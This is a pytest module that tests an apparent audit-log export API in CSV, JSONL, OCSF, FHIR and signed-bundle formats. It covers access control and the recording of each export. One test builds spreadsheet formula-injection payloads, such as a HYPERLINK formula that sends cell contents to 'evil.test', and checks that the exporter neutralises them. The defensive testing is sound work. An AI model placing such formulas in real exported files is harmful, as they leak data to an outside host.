"""Exports hold what was asked for, fit the formats that they claim, and are recorded before they leave."""

import csv
import io
import json
import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx
import pytest
from click.testing import CliRunner

from linkage_ledger import events
from linkage_ledger.bundle import verify_bundle
from linkage_service.audit.formats.plain import csv_line
from linkage_service.audit.tables import AuditEvent
from linkage_service.cli import main
from support.databases import only_on_sqlite
from support.ledger_logs import make_header
from support.service_app import Json, Linked, ServiceApp, data_sets, ok, problem, service_app

EXPORTS = "/v1/audit/exports"


@pytest.fixture(scope="module")
def flow(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[ServiceApp, Linked]]:
    with service_app(tmp_path_factory.mktemp("flow")) as service:
        kept = service.officer.get("/v1/audit/checkpoint").text
        linked = service.uploaded(*data_sets(12, 12, shared=6))
        release = service.release(linked, service.run(linked))
        assert linked.providers[0].get(f"/v1/releases/{release['id']}/link-table").status_code == 200
        problem(service.open_project(linked.providers[0], linked.agreement, purpose="marketing"), 403)
        person = service.person(service.administrator, "operator")
        assert person.request("GET", "/v1/me").status_code == 200
        service.project()
        service.kept = kept  # type: ignore[attr-defined]  # for the tests of this module
        yield service, linked


def _export(caller: Any, **wanted: Any) -> httpx.Response:
    answer: httpx.Response = caller.post(EXPORTS, wanted)
    assert answer.status_code == 200, answer.text
    return answer


def test_table_has_a_row_for_each_event_and_no_formula(flow: tuple[ServiceApp, Linked]) -> None:
    service, _ = flow
    headers = service.events()
    assert service.officer.token
    answer = _export(service.officer, format="csv")
    assert answer.headers["content-type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(answer.text, newline="")))
    # The officer's own token was the last event but one.
    assert [row["type"] for row in rows[: len(headers)]] == [header["type"] for header in headers]
    assert [int(row["seq"]) for row in rows] == list(range(len(rows)))
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row.values())
    refused = next(row for row in rows if row["policies"].startswith("G1"))
    assert (refused["outcome"], refused["elements"]) == ("refused", "1")


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20"])
def test_cell_that_a_spreadsheet_would_calculate_is_made_text(start: str) -> None:
    formula = f'{start}HYPERLINK("https://evil.test?"&A1,"x")'
    # Past the ledger, which takes no header with control characters.
    header = json.loads(events.encode(make_header()))
    header |= {"purpose": formula, "source": formula, "request_id": formula, "actor": {"kind": "client", "id": formula}}
    copies: dict[str, Any] = {**events.indexed(make_header())}
    row = AuditEvent(seq=7, header=json.dumps(header).encode(), leaf_hash=bytes(32), **copies)
    cells = next(csv.reader(io.StringIO(csv_line(row, "").decode(), newline="")))
    assert cells.count(f"'{formula}") == 4
    assert not [cell for cell in cells if cell.startswith(start)]


def test_json_lines_hold_the_exact_header(flow: tuple[ServiceApp, Linked]) -> None:
    service, linked = flow
    answer = _export(service.officer, format="jsonl", agreement=linked.agreement["reference"])
    with service.runtime.database.reading() as session:
        stored = dict(
            tuple(row) for row in session.connection().exec_driver_sql("SELECT seq, header FROM audit_event").all()
        )
    lines = answer.content.splitlines()
    assert lines
    for line in lines:
        seq = json.loads(line)["seq"]
        assert line.endswith(b'"header":' + stored[seq] + b"}")
        assert json.loads(line)["header"]["agreement"]["ref"] == linked.agreement["reference"]


def test_export_is_recorded_with_format_filter_range_and_number_before_it_leaves(
    flow: tuple[ServiceApp, Linked],
) -> None:
    service, linked = flow
    assert service.officer.token
    with service.expecting_event("audit.exported") as recorded:
        answer = _export(service.officer, format="jsonl", project=linked.project, type="upload.completed")
    lines = [json.loads(line) for line in answer.content.splitlines()]
    assert answer.headers["linkage-event"] == str(service.size() - 1)
    assert recorded[0]["counts"] == {"events": len(lines)} == {"events": 2}
    body = ok(service.officer.get(f"/v1/audit/events/{answer.headers['linkage-event']}"), 200)["body"]
    assert body["detail"] == {
        "format": "jsonl",
        "filter": {"project": linked.project, "type": "upload.completed"},
        "first": lines[0]["seq"],
        "last": lines[-1]["seq"],
    }


# Required attributes and enumerations of https://schema.ocsf.io/1.3.0/classes/api_activity and .../authentication.
OCSF_COMMON = {
    "activity_id", "category_uid", "class_uid", "type_uid", "time", "severity_id", "metadata",
}  # fmt: skip
OCSF_CLASSES: dict[int, Json] = {
    6003: {"category": 6, "required": {"actor", "api", "src_endpoint"}, "activities": {0, 1, 2, 3, 4, 99}},
    3002: {"category": 3, "required": {"user"}, "activities": {0, 1, 2, 3, 4, 5, 6, 7, 99}},
}


def test_ocsf_events_have_what_their_class_requires(flow: tuple[ServiceApp, Linked]) -> None:
    service, _ = flow
    events = [json.loads(line) for line in _export(service.officer, format="ocsf").content.splitlines()]
    for event in events:
        rules = OCSF_CLASSES[event["class_uid"]]
        assert event.keys() >= OCSF_COMMON | rules["required"]
        assert event["category_uid"] == rules["category"]
        assert event["activity_id"] in rules["activities"]
        assert event["type_uid"] == event["class_uid"] * 100 + event["activity_id"]
        assert ("activity_name" in event) == (event["activity_id"] == 99)
        assert event["severity_id"] in range(7)
        assert event["status_id"] in {0, 1, 2, 99}
        assert isinstance(event["time"], int)
        assert event["time"] > 10**12
        assert event["metadata"]["version"] == "1.3.0"
        assert {"name", "vendor_name"} <= event["metadata"]["product"].keys()
        endpoint = event["src_endpoint"]
        assert endpoint.keys() & {"ip", "name", "uid", "hostname", "svc_name"}
        user = event["user"] if event["class_uid"] == 3002 else event["actor"]["user"]
        assert user["uid"]
        assert user["type_id"] in {0, 1, 2, 3, 99}
        if event["class_uid"] == 6003:
            assert event["api"]["operation"]
    kinds = {event["message"]: event["class_uid"] for event in events}
    assert kinds["token.issued"] == kinds["person.signed_in"] == 3002
    assert kinds["upload.completed"] == kinds["project.refused"] == 6003


# https://hl7.org/fhir/R4/auditevent.html: elements by name with their least and most, and required value sets.
FHIR_ELEMENTS: dict[str, tuple[int, int | None]] = {
    "resourceType": (1, 1), "id": (0, 1), "type": (1, 1), "subtype": (0, None), "action": (0, 1), "recorded": (1, 1),
    "outcome": (0, 1), "outcomeDesc": (0, 1), "purposeOfEvent": (0, None), "agent": (1, None), "source": (1, 1),
    "entity": (0, None),
}  # fmt: skip
FHIR_AGENT = {
    "type", "role", "who", "altId", "name", "requestor", "location", "policy", "media", "network", "purposeOfUse",
}  # fmt: skip
FHIR_ENTITY = {"what", "type", "role", "lifecycle", "securityLabel", "name", "description", "query", "detail"}
INSTANT = re.compile(r"\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}\.\d+Z")


def test_fhir_audit_events_have_the_structure_of_r4(flow: tuple[ServiceApp, Linked]) -> None:
    service, _ = flow
    answer = _export(service.officer, format="fhir")
    assert answer.headers["content-type"].startswith("application/fhir+ndjson")
    for line in answer.content.splitlines():
        made = json.loads(line)
        assert made.keys() <= FHIR_ELEMENTS.keys()
        for name, (least, most) in FHIR_ELEMENTS.items():
            assert name in made or not least, name
            assert isinstance(made.get(name, []), list) or most == 1, name
        assert made["resourceType"] == "AuditEvent"
        assert re.fullmatch(r"[A-Za-z0-9\-.]{1,64}", made["id"])
        assert INSTANT.fullmatch(made["recorded"])
        assert made["action"] in "CRUDE"
        assert made["outcome"] in {"0", "4", "8", "12"}
        assert made["type"]["system"].startswith("http")
        for agent in made["agent"]:
            assert agent.keys() <= FHIR_AGENT
            assert isinstance(agent["requestor"], bool)
            assert agent["network"]["type"] in {"1", "2", "3", "4", "5"}
        assert made["source"]["observer"]["identifier"]["value"]
        for entity in made.get("entity", []):
            assert entity.keys() <= FHIR_ENTITY
            assert all(
                item.keys() == {"type", "valueString"} and item["valueString"] for item in entity.get("detail", [])
            )
            # sev-1 of the resource: a name and a query are not both there.
            assert not {"name", "query"} <= entity.keys()


def test_bundle_of_everything_verifies_against_a_checkpoint_that_was_kept(flow: tuple[ServiceApp, Linked]) -> None:
    service, _ = flow
    kept: str = service.kept  # type: ignore[attr-defined]  # see the fixture
    answer = _export(service.officer, format="bundle", against=kept)
    assert answer.headers["content-type"] == "application/zip"
    key = [service.runtime.log.verifier]
    report = verify_bundle(io.BytesIO(answer.content), verifier_keys=key, against=kept)
    assert report.findings == ()
    assert report.status == "whole"


def test_partners_bundle_shows_its_agreements_events_and_hashes_of_all_others(
    flow: tuple[ServiceApp, Linked],
) -> None:
    service, linked = flow
    mine = linked.providers[0]
    officer = mine.add_client("officer")
    reference = linked.agreement["reference"]
    answer = _export(officer, format="bundle", agreement=reference)
    key = [service.runtime.log.verifier]
    report = verify_bundle(io.BytesIO(answer.content), verifier_keys=key, against=None)
    assert report.findings == ()
    shown = b"".join(_members(answer.content, "events/"))
    headers = [json.loads(line.split(b" ", 3)[3]) for line in shown.splitlines() if line.split(b" ")[1] == b"event"]
    assert headers
    assert {header["agreement"]["ref"] for header in headers} == {reference}
    bodies = [line.split(b" ", 3) for line in shown.splitlines() if line.split(b" ")[1] == b"body"]
    of = {
        int(line.split(b" ")[0]): json.loads(line.split(b" ", 3)[3])
        for line in shown.splitlines()
        if b" event " in line
    }
    assert bodies
    assert {of[int(seq)]["actor"]["org"] for seq, *_ in bodies} == {mine.organisation}
    assert linked.providers[1].organisation.encode() in shown


def _members(bundle: bytes, prefix: str) -> list[bytes]:
    import zipfile

    with zipfile.ZipFile(io.BytesIO(bundle)) as archive:
        return [archive.read(name) for name in sorted(archive.namelist()) if name.startswith(prefix)]


def test_partner_exports_nothing_of_others_in_any_format(flow: tuple[ServiceApp, Linked]) -> None:
    service, linked = flow
    officer = linked.providers[0].add_client("officer")
    others = {
        header["agreement"]["ref"] for header in service.events() if "agreement" in header
    } - {linked.agreement["reference"]}  # fmt: skip
    assert others
    for name in ("csv", "jsonl", "ocsf", "fhir"):
        text = _export(officer, format=name).text
        assert linked.agreement["reference"] in text
        assert not any(reference in text for reference in others)
    problem(officer.post(EXPORTS, {"format": "csv", "agreement": next(iter(others))}), 404, "not_found")


def test_export_is_for_officers_and_asks_people_for_the_second_factor(flow: tuple[ServiceApp, Linked]) -> None:
    service, linked = flow
    answer = problem(linked.providers[0].post(EXPORTS, {"format": "csv"}), 403)
    assert answer["code"] == "refused"
    assert service.events()[-1]["type"] == "audit.refused"
    officer = service.person(service.officer, "officer")
    answer = problem(officer.request("POST", EXPORTS, json={"format": "csv"}), 403)
    assert [item["policy"] for item in answer["elements"]] == ["G5-step-up"]
    stepped = service.person(service.officer, "officer", stepped_up=True)
    assert stepped.request("POST", EXPORTS, json={"format": "csv"}).status_code == 200


def test_export_of_what_makes_no_sense_is_refused(flow: tuple[ServiceApp, Linked]) -> None:
    service, _ = flow
    for wanted in (
        {}, {"format": "xml"}, {"format": "csv", "name": "x"}, {"format": "csv", "first": 5, "last": 2},
        {"format": "csv", "against": "x"}, {"format": "bundle", "against": "not a note"},
    ):  # fmt: skip
        problem(service.officer.post(EXPORTS, wanted), 422)
    problem(service.officer.post(EXPORTS, {"format": "csv", "first": 10**6}), 404, "not_found")


@only_on_sqlite
def test_operator_exports_a_bundle_from_the_database_and_that_is_an_event(service: ServiceApp, tmp_path: Path) -> None:
    # The command goes by the machine's clock, so its service is its own: nothing may follow on another clock.
    kept, out = tmp_path / "kept.txt", tmp_path / "log.zip"
    kept.write_bytes(service.officer.get("/v1/audit/checkpoint").content)
    linked = service.project()
    words = ["audit", "export", "--data-dir", str(service.settings.data_dir), "--out", str(out), "--json"]
    asked = ["--agreement", linked.agreement["reference"], "--against", str(kept)]
    with service.expecting_event("audit.exported") as recorded:
        outcome = CliRunner().invoke(main, [*words, *asked])
    assert outcome.exit_code == 0, outcome.output
    assert recorded[0]["actor"] == {"kind": "system", "id": "linkage-service"}
    assert recorded[0]["counts"]["events"] == json.loads(outcome.output)["events"]
    assert out.stat().st_mode & 0o077 == 0
    with out.open("rb") as file:
        report = verify_bundle(file, verifier_keys=[service.runtime.log.verifier], against=kept.read_text("utf-8"))
    assert (report.status, report.withheld) == ("whole", 0)
    before = service.size()
    assert CliRunner().invoke(main, [*words, *asked]).exit_code == 1
    assert CliRunner().invoke(main, [*words[:-2], str(tmp_path / "b"), "--from", "yesterday"]).exit_code == 2
    assert service.size() == before
    assert list(tmp_path.glob(".*")) == []
